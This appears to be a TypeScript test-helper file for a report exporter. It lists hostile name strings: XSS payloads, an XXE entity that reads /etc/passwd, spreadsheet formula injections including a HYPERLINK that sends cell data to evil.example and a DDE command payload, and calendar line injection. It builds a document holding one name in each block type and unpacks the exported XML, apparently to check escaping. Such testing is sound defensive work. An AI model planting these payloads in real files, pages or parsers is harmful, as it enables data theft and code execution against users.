import { strFromU8, unzipSync } from "fflate";
import type { Paper, PaperBlock } from "../../core/base/paper.ts";

/** Names as a file of others may bring them: whatever they are, they are names. */
export const HOSTILE_NAMES = [
  "<img src=x onerror=alert(1)>",
  "</style></title></text><script>alert(1)</script>",
  `"><svg/onload='alert(1)'>`,
  "&lt;script&gt;&#60;b&#62;",
  "]]><!--<?xml version='1.0'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-2",
  "\t=1+1",
  "a\r\nATTENDEE:mailto:x@evil.example\r\nEND:VEVENT",
  'a;b,c\\nd:"e"',
  "[x](javascript:alert(1)) ![y](http://evil.example/y.png)",
  "`code` # *b* _i_ > q | t ~~s~~",
  "{{count}} $t(base.cancel) %s ${x}",
  "__proto__",
  "阀\ufffe门\uffff",
  "\u{1fffe}\udc00 a\ud83d",
  "\u202egnp.exe\u0000\u0007\u001b[31m\ufffe\ud800",
];

/** A document that says a name in every kind of block. */
export function paperAbout(name: string): Paper {
  const said = { key: "review.text", params: { text: name } };
  const blocks: readonly PaperBlock[] = [
    { kind: "text", message: said },
    { kind: "commentary", text: name },
    { kind: "figures", figures: [{ label: said, quantity: { unit: "count", value: 1 }, note: said }] },
    { kind: "list", title: said, items: [{ message: said, detail: said, tone: "behind" }], empty: said },
    {
      kind: "table",
      id: "t",
      title: said,
      columns: [{ key: "a", title: said, unit: "text" }],
      rows: [{ key: "r", depth: 0, emphasis: "none", cells: [{ text: name }] }],
      notes: [said],
    },
    {
      kind: "chart",
      id: "c",
      title: said,
      shape: "bars",
      unit: "count",
      labels: [said],
      series: [{ name: said, values: [1] }],
      target: [2],
      targetName: said,
    },
    { kind: "signatures", lines: [said] },
  ];
  const section = { id: "s", title: said, newPage: false, blocks };
  return { title: said, subtitle: said, runningHead: said, hasContents: true, sections: [section] };
}

/** The parts of a package of XML, by name, those of workbooks within it too. */
export function xmlParts(bytes: Uint8Array): readonly [string, string][] {
  return Object.entries(unzipSync(bytes)).flatMap(([name, part]): readonly [string, string][] => {
    if (name.endsWith(".xlsx")) return xmlParts(part).map(([inner, xml]) => [`${name}/${inner}`, xml]);
    return /\.(xml|rels|svg)$/.test(name) ? [[name, strFromU8(part)]] : [];
  });
}
